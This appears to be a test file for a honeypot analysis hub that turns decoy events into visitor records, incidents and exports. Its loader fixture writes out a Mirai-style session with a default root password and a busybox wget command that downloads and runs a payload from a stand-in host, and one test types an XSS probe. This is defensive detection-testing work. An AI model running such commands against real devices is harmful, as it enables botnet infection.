/** Decoys at the hub: what their hosts bring, who came, what he did, and what an owner is told. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { OwnerRecord } from '../src/model/account.ts';
import type { DecoyView, VisitorDetail, VisitorRow, VisitReplay } from '../src/model/decoy-view.ts';
import type { Page } from '../src/model/facts.ts';
import type { Incident } from '../src/model/incident.ts';
import { aSystem, aSystemRecord } from '../src/model/scanning-system-fixture.ts';
import { anIncident, anOwner, opened } from '../src/store/state/state-fixture.ts';
import { addAccount, type Client, NOW, openTestHub, setUp, type TestHub } from './hub-support.ts';

const HOUR_MS = 3_600_000;

let hub: TestHub;
let admin: Client;
let analyst: Client;
let secret: string;
let school: OwnerRecord;
let town: OwnerRecord;
let batches = 0;

function anEvent(session: string, at: number, change: object = {}): object {
  return {
    eventid: 'cowrie.session.connect',
    timestamp: `${new Date(at).toISOString().slice(0, -1)}000Z`,
    session,
    src_ip: '198.51.100.7',
    src_port: 40_000,
    dst_ip: '203.0.113.5',
    dst_port: 23,
    protocol: 'telnet',
    sensor: 'shell-1',
    persona: 'iot-shell',
    ...change,
  };
}

/** A device that signs in and drops something, as a loader does. */
function aLoader(session: string, at: number, address: string): object[] {
  const from = { src_ip: address };
  const lines = [
    'enable',
    '/bin/busybox ECCHI',
    'cat /proc/mounts; /bin/busybox ECCHI',
    '/bin/busybox wget http://192.0.2.66/x.arm7 -O - > x; chmod 777 x; ./x',
  ];
  return [
    anEvent(session, at, from),
    anEvent(session, at + 100, {
      ...from,
      eventid: 'cowrie.login.success',
      username: 'root',
      password: 'xc3511',
    }),
    ...lines.map((input, i) =>
      anEvent(session, at + 200 + i * 20, { ...from, eventid: 'cowrie.command.input', input, typed_ms: 20 }),
    ),
    anEvent(session, at + 300, {
      ...from,
      eventid: 'cowrie.session.file_download',
      url: 'http://192.0.2.66/x.arm7',
      destfile: 'x',
      tool: 'wget',
    }),
    anEvent(session, at + 310, {
      ...from,
      eventid: 'yamori.indicator',
      url: 'http://192.0.2.66/x.arm7',
      kind: 'url',
    }),
    anEvent(session, at + 400, { ...from, eventid: 'cowrie.session.closed', duration: 0.4 }),
  ];
}

async function post(events: readonly object[], change: object = {}, token = secret) {
  batches++;
  return hub.app.inject({
    method: 'POST',
    url: '/api/v1/ingest/visits',
    headers: { authorization: `Bearer ${token}` },
    payload: { id: `journal:${batches}:0`, sentAt: NOW, events, refused: 0, lost: 0, ...change },
  });
}

async function listOf(query = ''): Promise<readonly VisitorRow[]> {
  const answer = await analyst.get(`/visitors?from=${NOW / 1000 - 86_400}&to=${NOW / 1000 + 10}${query}`);
  assert.equal(answer.statusCode, 200, answer.body);
  return answer.json<Page<VisitorRow>>().rows;
}

before(async () => {
  hub = await openTestHub();
  admin = await setUp(hub);
  analyst = await addAccount(hub, admin, 'ana', 'analyst');
  school = await hub.state.createOwner({ ...anOwner('School'), prefixes: ['192.0.2.0/24'], dark: [] });
  town = await hub.state.createOwner({ ...anOwner('Town'), prefixes: ['198.18.7.0/24'], dark: [] });
  ({ secret } = (await admin.ask('POST', '/sensors', { name: 'decoy host' })).json());
});
after(() => hub.close());

test('what a decoy’s host brings is taken once, and shows as visits, visitors and a session to be played', async () => {
  const from = NOW - HOUR_MS;
  const typed = '<script>alert(1)</script>\u001b]0;x\u0007';
  const events = [
    anEvent('aa0000000001', from - 10, {
      eventid: 'yamori.decoy.started',
      protocol: 'none',
      ports: [{ name: 'telnet', port: 23 }],
    }),
    anEvent('aa0000000002', from, { src_ip: '198.51.100.99' }),
    anEvent('aa0000000002', from + 5_000, {
      src_ip: '198.51.100.99',
      eventid: 'cowrie.command.input',
      input: typed,
    }),
  ];
  const batch = { id: 'the-same:0:1' };
  assert.deepEqual((await post(events, batch)).json(), { ...batch, result: 'stored' });
  assert.deepEqual((await post(events, batch)).json(), { ...batch, result: 'known' });
  await hub.visitsJob.runNow();
  const { rows } = (await analyst.get(`/decoys?from=${from / 1000 - 60}&to=${NOW / 1000}`)).json<{
    rows: DecoyView[];
  }>();
  assert.deepEqual(
    rows.map(({ name, visits, visitors, events: all, startedAt, ports }) => [
      name,
      visits,
      visitors,
      all,
      startedAt,
      ports,
    ]),
    [['shell-1', 1, 1, 3, from - 10, [{ name: 'telnet', port: 23 }]]],
  );
  const [visitor] = await listOf();
  assert.deepEqual(
    [visitor.id, visitor.visits, visitor.addresses, visitor.asn, visitor.sensors],
    ['v-aa0000000002', 1, ['198.51.100.99'], null, ['shell-1']],
  );
  // The dark knows his address as a member of a system, and that of his neighbour as one of another.
  const known = aSystemRecord(
    aSystem(['198.51.100.99', '198.51.100.98'], { id: 'known-here', name: 'Example' }),
  );
  const other = aSystemRecord(aSystem(['198.51.100.9'], { id: 'another' }));
  await hub.state.changeSystems({
    version: await hub.state.systemsVersion(),
    put: [known, other],
    removed: [],
    events: [],
    decision: null,
    snapshotAt: null,
  });
  const detail = (await analyst.get(`/visitors/${visitor.id}`)).json<VisitorDetail>();
  assert.deepEqual(detail.systems, [{ id: 'known-here', name: 'Example', verdict: known.system.verdict }]);
  assert.deepEqual(
    detail.story.map(({ kind }) => kind),
    ['typed-commands'],
  );
  assert.deepEqual(
    detail.visitList.map(({ id, visitorId }) => [id, visitorId]),
    [['aa0000000002', visitor.id]],
  );
  const replay = await analyst.get('/visits/aa0000000002');
  assert.match(String(replay.headers['content-type']), /^application\/json/);
  assert.deepEqual(replay.json<VisitReplay>().events, events.slice(1));
  assert.equal((await analyst.get('/visits/ffffffffffff')).statusCode, 404);
  assert.equal((await analyst.get('/visitors/v-ffffffffffff')).statusCode, 404);
});

test('an owner’s own address that infects a decoy is an incident at the grade of what it left behind', async () => {
  await post(aLoader('bb0000000001', NOW - 60_000, '192.0.2.9'));
  await hub.visitsJob.runNow();
  const [incident] = await hub.state.incidentsOfAddress('192.0.2.9');
  assert.deepEqual(
    [
      incident.ownerId,
      incident.cause,
      incident.status,
      incident.grade,
      incident.device,
      incident.observation,
    ],
    [school.id, 'infected', 'open', 'payload', 'iot', 'external'],
  );
  const codes = incident.evidence.map(({ code }) => code);
  for (const code of ['decoy-visit', 'decoy-login', 'decoy-commands', 'decoy-download', 'decoy-connection'])
    assert.ok(codes.includes(code), `${code} in ${codes}`);
  const [row] = await listOf('&address=192.0.2.9');
  assert.deepEqual([row.kind, row.owners], ['bot', [{ id: school.id, name: 'School' }]]);
  const detail = (await analyst.get(`/visitors/${row.id}`)).json<VisitorDetail>();
  assert.deepEqual(detail.incidents, [incident.id]);
  // The same again changes nothing.
  await hub.visitsJob.runNow();
  assert.equal((await hub.state.incidentsOfAddress('192.0.2.9'))[0].version, incident.version);
});

test('what the dark told and what a decoy told stand beside each other, and the stronger grade stays', async () => {
  const [dark] = await hub.state.changeIncidents([
    opened(
      anIncident(town.id, {
        address: '198.18.7.7',
        evidence: [
          { code: 'mirai-mark', text: '12 of 12 probes', formula: null },
          { code: 'no-connection', text: 'No connection was established.', formula: null },
        ],
        firstSeen: NOW - 9 * HOUR_MS,
        lastSeen: NOW - 8 * HOUR_MS,
      }),
    ),
  ]);
  // He only came by: that alone says nothing of what he is.
  await post([anEvent('bb0000000002', NOW - 50_000, { src_ip: '198.18.7.7' })]);
  await hub.visitsJob.runNow();
  const [joined, ...others] = await hub.state.incidentsOfAddress('198.18.7.7');
  assert.deepEqual([joined.id, joined.cause, joined.grade, others], [dark.id, 'infected', 'handshake', []]);
  const codes = joined.evidence.map(({ code }) => code);
  assert.deepEqual(codes, ['mirai-mark', 'decoy-visit', 'decoy-connection']);
  assert.equal(joined.lastSeen, NOW - 50_000);
  assert.deepEqual([...(await hub.state.lastVisits(['198.18.7.7'])).values()], [NOW - 50_000]);
});

test('lists filter by kind, decoy, act and address, and refuse what is none', async () => {
  assert.deepEqual(
    (await listOf('&kind=bot')).map(({ addresses }) => addresses[0]),
    ['192.0.2.9'],
  );
  assert.equal((await listOf('&decoy=shell-1')).length, 3);
  assert.equal((await listOf('&decoy=nobody')).length, 0);
  assert.equal((await listOf('&act=named-download')).length, 1);
  assert.equal((await listOf('&lateral=true')).length, 0);
  for (const wrong of ['kind=robot', 'act=sang', 'address=nowhere', 'sort=luck', 'lateral=maybe', 'cursor=x'])
    assert.equal((await analyst.get(`/visitors?${wrong}`)).statusCode, 400, wrong);
  const csv = await analyst.get(`/visitors?format=csv&from=0&to=${NOW / 1000 + 10}`);
  assert.equal(csv.body.trim().split('\r\n').length, 4, csv.body);
});

test('events go out in the forms of others, and who took them stands in the log', async () => {
  const range = `from=${NOW / 1000 - 86_400}&to=${NOW / 1000 + 10}`;
  const out = async (form: string) => (await analyst.get(`/visits.export?form=${form}&${range}`)).body;
  const cowrie = (await out('cowrie'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  assert.ok(cowrie.every(({ eventid }) => eventid.startsWith('cowrie.')));
  assert.equal(cowrie.filter(({ eventid }) => eventid === 'cowrie.session.file_download').length, 1);
  const ecs = (await out('ecs'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  assert.ok(ecs.length > cowrie.length);
  assert.match(await out('stix'), /"type": "bundle"/);
  assert.match(await out('indicators'), /http:\/\/192\.0\.2\.66\/x\.arm7/);
  assert.equal((await analyst.get(`/visits.export?form=tar&${range}`)).statusCode, 400);
  const audit = (await admin.get('/audit')).json<Page<{ action: string; subject: string }>>();
  assert.ok(audit.rows.some(({ action, subject }) => action === 'exported' && subject === 'visits/stix'));
});

test('what is no event is counted and left out, and another sensor cannot write under a decoy’s name', async () => {
  const other = (await admin.ask('POST', '/sensors', { name: 'another host' })).json<{ secret: string }>();
  const taken = await post([anEvent('cc0000000001', NOW)], {}, other.secret);
  assert.equal(taken.statusCode, 200);
  assert.equal((await analyst.get('/visits/cc0000000001')).statusCode, 404);
  const odd = await post(
    [
      anEvent('cc0000000002', NOW, { src_ip: 'nowhere' }),
      anEvent('cc0000000003', NOW, { timestamp: '2026-13-77T00:00:00Z' }),
      anEvent('cc0000000004', NOW + 9 * HOUR_MS),
      anEvent('cc0000000005', NOW, { eventid: 'yamori.not.known.yet', deep: [[[[['x']]]]] }),
    ],
    { refused: 2, lost: 1 },
  );
  assert.equal(odd.statusCode, 200, odd.body);
  await hub.visitsJob.runNow();
  for (const [id, status] of [
    ['cc0000000002', 404],
    ['cc0000000003', 404],
    ['cc0000000004', 404],
    ['cc0000000005', 200],
  ] as const)
    assert.equal((await analyst.get(`/visits/${id}`)).statusCode, status, id);
  const metrics = (await hub.app.inject({ method: 'GET', url: '/metrics' })).body;
  assert.match(metrics, /name="visit-event-refused"\} 5/);
  assert.match(metrics, /name="visit-journal-lost"\} 1/);
  assert.match(metrics, /name="decoy-of-another-sensor"\} 1/);
  for (const wrong of [
    [anEvent('not a session', NOW)],
    [anEvent('cc0000000006', NOW, { eventid: 'constructor' })],
    [{ ...anEvent('cc0000000007', NOW), timestamp: 'yesterday' }],
    Array.from({ length: 1_001 }, () => anEvent('cc0000000008', NOW)),
  ])
    assert.equal((await post(wrong)).statusCode, 400);
  assert.equal((await post([anEvent('cc0000000009', NOW)], {}, 'ys_nobody')).statusCode, 401);
});

test('owners see nothing of decoys', async () => {
  const own = await addAccount(hub, admin, 'school', 'owner', [school.id]);
  for (const path of [
    '/decoys',
    '/visitors',
    '/visitors/v-aa0000000002',
    '/visits/aa0000000002',
    '/visits.export?form=ecs',
  ])
    assert.equal((await own.get(path)).statusCode, 403, path);
  const incidents = (await own.get('/incidents')).json<Page<Incident>>();
  assert.equal(incidents.rows.length, 1);
});

test('a credential that was planted on one decoy and used on another is an incident of its own', async () => {
  const address = { src_ip: '192.0.2.20' };
  const lure = { place: 'maintenance-note', username: 's.abe8440', password: 'a-password' };
  const plant = {
    ...address,
    sensor: 'plant-1',
    persona: 'water-plant',
    protocol: 'http',
    dst_ip: '203.0.113.6',
  };
  await post([
    anEvent('bb0000000011', NOW - 50_000, plant),
    anEvent('bb0000000011', NOW - 49_000, { ...plant, eventid: 'yamori.lure.planted', ...lure }),
    anEvent('bb0000000012', NOW - 40_000, address),
    anEvent('bb0000000012', NOW - 39_000, { ...address, eventid: 'yamori.lure.used', ...lure }),
    ...aLoader('bb0000000013', NOW - 30_000, '192.0.2.20'),
  ]);
  await hub.visitsJob.runNow();
  const incidents = await hub.state.incidentsOfAddress('192.0.2.20');
  const intrusion = incidents.find(({ cause }) => cause === 'intrusion');
  assert.ok(intrusion !== undefined, JSON.stringify(incidents.map(({ cause }) => cause)));
  assert.equal(intrusion.status, 'open');
  assert.ok(intrusion.evidence.some(({ code }) => code === 'decoy-lateral'));
  const [row] = await listOf('&lateral=true');
  assert.deepEqual(
    row.lateral.map(({ from, to, place }) => [from, to, place]),
    [['plant-1', 'shell-1', 'maintenance-note']],
  );
});
